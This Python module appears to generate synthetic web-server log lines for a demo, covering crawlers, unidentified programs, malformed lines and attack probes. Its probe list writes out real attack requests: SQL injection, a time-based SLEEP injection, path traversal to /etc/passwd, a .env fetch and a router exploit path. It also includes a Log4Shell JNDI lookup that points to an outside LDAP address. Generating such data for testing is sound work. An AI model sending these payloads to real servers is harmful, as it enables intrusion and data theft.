"""Who visits and is nobody: crawlers, programs, attackers, and lines that are no log lines at all."""

from __future__ import annotations

from collections.abc import Iterator
from random import Random
from typing import NamedTuple

from services.demo.people import agents
from services.demo.places import address
from services.demo.site import Site
from services.demo.tenants import Club
from services.demo.visits import DAY_MS

__all__ = ["StrangerHit", "attacks", "broken_line", "robots"]

BROKEN = 0.0004  # of lines are cut or belong into another log
_PROGRAMS = 0.12  # of the robots' requests come from programs that do not say what they are
_ATTACKS_A_DAY = 30
_PROBES = (
    "GET /wp-login.php HTTP/1.1",
    "GET /.env HTTP/1.1",
    "GET /index.php?id=1%27%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x7171,version())--%20- HTTP/1.1",
    "GET /agenda?id=1%20AND%20SLEEP(5) HTTP/1.1",
    "GET /../../../../etc/passwd HTTP/1.1",
    "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write HTTP/1.1",
    "PROPFIND / HTTP/1.1",
    "CONNECT mail.example.com:25 HTTP/1.1",
    "GET http://proxy-judge.example/azenv.php HTTP/1.1",
)
# As servers write bytes that are no HTTP: nginx and Apache in text, nginx with escape=json.
_TLS_HELLO = {
    "text": r"\x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03\xD7\x1C",
    "json": r"\u0016\u0003\u0001\u0000\u0001",
}
_LOOKUP = "${jndi:ldap://203.0.113.77:1389/a}"  # 203.0.113.0/24 is kept free for documents
_OTHER_LOG = "2026/01/01 00:00:00 [error] 811#811: *42 upstream timed out (110: Connection timed out)"


class StrangerHit(NamedTuple):
    time_ms: int  # since midnight UTC
    address: str
    account: str
    request: str
    status: int
    size: int
    latency_ms: int
    referrer: str
    agent: str


def robots(club: Club, site: Site, random: Random) -> Iterator[StrangerHit]:
    """A day of crawlers and programs; each crawler has one address a day."""
    names, weights = agents("bot")
    homes = {name: address("US", random) for name in names}
    tools = agents("tool")[0]
    for _ in range(round(club.robots_a_day * random.gauss(1, 0.1))):
        program = random.random() < _PROGRAMS
        agent = random.choice(tools) if program else random.choices(names, weights)[0]
        target = "/robots.txt" if random.random() < 0.05 else random.choice(site.pages)
        status = 200 if random.random() < 0.95 else 404
        yield StrangerHit(
            random.randrange(DAY_MS), homes.get(agent) or address("DE", random), "", f"GET {target} HTTP/1.1", status,
            random.randrange(200, 30_000), random.randrange(4, 90), "", agent,
        )  # fmt: skip


def attacks(club: Club, random: Random) -> Iterator[StrangerHit]:
    """A day of probes: known holes, injections, and bytes that are no HTTP."""
    hello = _TLS_HELLO["json" if club.log_format == "nginx_json" else "text"]
    start, home = random.randrange(DAY_MS - 600_000), address("US", random)
    for number in range(_ATTACKS_A_DAY):
        time_ms = start + number * 1_700
        kind = random.random()
        if kind < 0.2:
            yield StrangerHit(time_ms, home, "", hello, 400, 150, 0, "", "")
        elif kind < 0.3:
            yield StrangerHit(time_ms, home, "", "GET / HTTP/1.1", 200, 9_000, 12, "", _LOOKUP)
        elif kind < 0.35:
            yield StrangerHit(time_ms, home, "", "", 408, 0, 0, "", "")
        else:
            yield StrangerHit(time_ms, home, "", random.choice(_PROBES), 404, 162, 2, "", "Mozilla/5.0")


def broken_line(line: str, random: Random) -> str:
    """What a full disk or a mistaken configuration leaves instead of `line`."""
    return _OTHER_LOG if random.random() < 0.5 else line[: random.randrange(5, len(line) // 2)]
